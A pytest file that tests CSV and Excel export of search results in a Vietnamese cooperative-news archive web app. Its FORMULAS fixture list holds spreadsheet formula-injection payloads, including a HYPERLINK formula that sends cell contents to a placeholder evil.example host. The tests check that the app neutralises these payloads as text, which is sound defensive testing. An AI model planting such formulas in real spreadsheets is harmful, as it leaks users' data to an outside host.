"""Export of a whole result set (app/web/export.py) through the running web app: the CSV and
the workbook are opened as Excel would and their cells checked, every result is there (not
the page shown, across the backend's pages), the filters apply, a crawled title that looks
like a formula stays text, and a set larger than the limit says it was cut."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import datetime

import openpyxl
import pytest

from app.web import export
from app.web.render import render
from app.web.saved import follow_context
from crawler import provinces
from search.base import MAX_PAGE_SIZE, Query, Results, doc_id, to_document
from search.paging import walk
from tests.helpers import serving
from tests.webdata import XSS_TITLE, build_site, fetch

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84 hợp tác xã gọi điện", "-2+3 hợp tác xã",
            "@SUM(1+1) hợp tác xã", "＝1+1 hợp tác xã toàn dạng"]
FILLER = 150  # enough articles that "everything" spans two backend pages


def _item(i: int, title: str, site: str = "lmhtx-hanoi", province: str = "ha-noi") -> dict:
    url = f"https://{site}.example.vn/ban-tin/{i:04d}.html"
    text = f"{title}. Bản tin số {i} về hợp tác xã."
    return {"url": url, "canonical_url": url, "site": site, "province": province,
            "province_today": provinces.today(province), "title": title, "text": text,
            "published": f"2022-{1 + i % 12:02d}-{1 + i % 28:02d}T08:00:00+07:00", "author": None,
            "doc_number": None, "attachments": [], "language": "vi", "fetched_at": "2025-09-01T10:00:00+07:00",
            "content_hash": hashlib.sha256(text.encode()).hexdigest(), "fingerprint": f"fp{i:06d}"}


@pytest.fixture(scope="module")
def site(tmp_path_factory):

    tmp = tmp_path_factory.mktemp("export")
    backend, archive, items = build_site(tmp)
    extra = [_item(i, t) for i, t in enumerate(FORMULAS)]
    extra += [_item(100 + i, f"Bản tin kinh tế tập thể số {i}", "lmhtx-filler", "ninh-binh") for i in range(FILLER)]
    backend.index([to_document(a) for a in extra])
    for a in extra:
        archive.upsert(doc_id(a["canonical_url"]), a)
    with serving(backend, archive, now=lambda: datetime(2025, 9, 15, 9, 30)) as base:
        yield {"base": base, "backend": backend, "archive": archive, "items": items + extra}


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel opens the file as UTF-8
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline="")))


def every_title(backend, query: Query) -> list[str]:
    """What the search finds, page by page as staff would click through it."""
    out, page = [], 1
    while True:
        results = backend.search(Query(**{**query.__dict__, "page": page, "size": 20}))
        out += [h.title for h in results.hits]
        if len(results.hits) < 20:
            return out
        page += 1


def test_csv_has_every_result_of_the_search_with_its_filters(site):
    status, headers, body = fetch(site["base"], "/export.csv", q="hợp tác xã", province_today="lam-dong")
    assert status == 200
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"] == 'attachment; filename="lmhtx-ket-qua-2025-09-15-0930.csv"'
    rows = read_csv(body)
    assert rows[0] == list(export.HEADER)
    expected = every_title(site["backend"], Query(text="hợp tác xã", province_today="lam-dong"))
    assert [r[0] for r in rows[1:]] == expected and len(expected) >= 4  # Đắk Nông, Bình Thuận, Lâm Đồng
    by_title = {r[0]: r for r in rows[1:]}
    row = by_title["Đắk Nông: Hợp tác xã cà phê Thuận An đạt chứng nhận OCOP 4 sao"]
    assert row[2:5] == ["Đắk Nông", "Lâm Đồng", "05/03/2024"]  # as published, today's, dd/mm/yyyy
    url = "https://lmhtx-daknong.example.vn/tin-tuc/bai-viet-03.html"
    assert row[6] == url and row[7] == f"{site['base']}/archive/{doc_id(url)}"
    assert by_title["Kế hoạch tuyên truyền kỷ niệm Ngày Hợp tác xã Việt Nam 11/4"][5] == "04/KH-LMHTX"
    assert all(r[3] == "Lâm Đồng" for r in rows[1:])


def test_everything_spans_the_backend_pages(site):
    status, _, body = fetch(site["base"], "/export.csv")
    assert status == 200
    rows = read_csv(body)[1:]
    total = site["backend"].count()
    assert total > MAX_PAGE_SIZE and len(rows) == total
    assert len({r[6] for r in rows}) == total  # no page read twice
    days = [datetime.strptime(r[4], "%d/%m/%Y") for r in rows if r[4]]
    assert days == sorted(days, reverse=True)  # no words: newest first, as on the page


def test_xlsx_opens_with_its_cells(site):
    status, headers, body = fetch(site["base"], "/export.xlsx", q="ocop")
    assert status == 200
    assert headers["Content-Type"] == export.CONTENT_TYPES["xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Kết quả", "Thông tin"]
    sheet = book["Kết quả"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == export.HEADER
    assert [r[0] for r in rows[1:]] == every_title(site["backend"], Query(text="ocop"))
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    thanh_hoa = cells["Thanh Hóa: hợp tác xã chế biến nước mắm truyền thống"]
    assert thanh_hoa[4].value == datetime(2024, 4, 25) and thanh_hoa[4].number_format == "dd/mm/yyyy"
    assert thanh_hoa[2].value == "Thanh Hóa" and thanh_hoa[3].value == "Thanh Hóa"
    assert thanh_hoa[6].hyperlink.target == thanh_hoa[6].value.strip() and thanh_hoa[6].value.startswith("https://")
    assert thanh_hoa[7].value.startswith(site["base"] + "/archive/")
    about = dict(book["Thông tin"].iter_rows(values_only=True))
    assert about["Tìm kiếm"] == "Từ khóa “ocop”" and about["Số kết quả"] == str(len(rows) - 1)
    assert about["Xuất lúc"] == "15/09/2025 09:30" and "Lưu ý" not in about


def test_a_title_that_looks_like_a_formula_is_text(site):
    _, _, body = fetch(site["base"], "/export.csv", q="hợp tác xã", site="lmhtx-hanoi")
    titles = [r[0] for r in read_csv(body)[1:]]
    for title in FORMULAS:
        assert "'" + title in titles  # behind an apostrophe: text in Excel and LibreOffice
    assert not any(t.startswith(("=", "+", "-", "@", "＝")) for t in titles)
    _, _, body = fetch(site["base"], "/export.xlsx", q="hợp tác xã", site="lmhtx-hanoi")
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Kết quả"]
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    for title in FORMULAS:
        cell = cells[title]  # the title as it is, a string cell, with Excel's quote prefix
        assert cell.data_type == "s" and cell.quotePrefix, title
    plain = cells["Hà Nội: hỗ trợ hợp tác xã tham gia chuỗi giá trị nông sản an toàn"]
    assert plain.data_type == "s" and not plain.quotePrefix
    # the hostile page title of tests/webdata.py is plain text in both
    _, _, body = fetch(site["base"], "/export.csv", q="rau an toàn")
    assert XSS_TITLE in [r[0] for r in read_csv(body)[1:]]


def test_a_set_past_the_limit_is_cut_and_says_so(site):
    backend = site["backend"]
    found = walk(backend.search, Query(sort="date"), page_size=7, limit=20)
    hits = list(found.hits)
    assert found.cut and found.total == backend.count() and len(hits) == 20 == len({h.id for h in hits})
    assert [h.id for h in hits] == [h.id for h in backend.search(Query(sort="date", size=20)).hits]
    headers, body = export.export("csv", backend.search, Query(sort="date"), base_url="", with_archive=False,
                                  names={}, page_size=7, limit=20)
    rows = read_csv(body)
    assert len(rows) == 1 + 20 + 2 and rows[-2] == []
    assert rows[-1] == [f"Chỉ xuất 20 kết quả đầu tiên trong {backend.count()} kết quả tìm thấy; hãy thu hẹp "
                        "tìm kiếm (từ khóa, tỉnh/thành, khoảng ngày) để xuất phần còn lại."]
    assert all(r[7] == "" for r in rows[1:21])  # no archive: no archived-copy column
    _, body = export.export("xlsx", backend.search, Query(sort="date"), base_url="", with_archive=False,
                            names={}, page_size=7, limit=20)
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book["Kết quả"].cell(23, 1).value == rows[-1][0]
    assert dict(book["Thông tin"].iter_rows(values_only=True))["Lưu ý"] == rows[-1][0]
    # the search page says it beside the links when a search matches more than the backend's window
    follow = follow_context(Query(text="htx"), Results(total=12_345, hits=[]), with_archive=True)
    page = render("_follow.html", follow=follow).decode()
    assert "Tải về 12.345 kết quả" in page and "chỉ gồm 10.000 kết quả đầu tiên" in page


def test_portal_names_come_from_the_registry():
    names = export.portal_names()
    assert names["vca"] and names["vca"] != "vca"


def test_a_bad_search_is_refused_in_words(site):
    status, headers, body = fetch(site["base"], "/export.xlsx", since="2025-02-01", until="2025-01-01")
    assert status == 400 and headers["Content-Type"].startswith("text/html")
    assert "“Từ ngày” (01/02/2025) phải trước" in body.decode()


def test_one_export_at_a_time(site):
    with export.slot():  # another export is running
        status, headers, body = fetch(site["base"], "/export.csv", q="ocop")
        assert status == 503 and headers["Retry-After"] == "30"
        assert "đang xuất một tệp khác" in body.decode()
        with pytest.raises(export.Busy):
            with export.slot():
                pass
    status, _, body = fetch(site["base"], "/export.csv", q="ocop")
    assert status == 200 and len(read_csv(body)) > 1
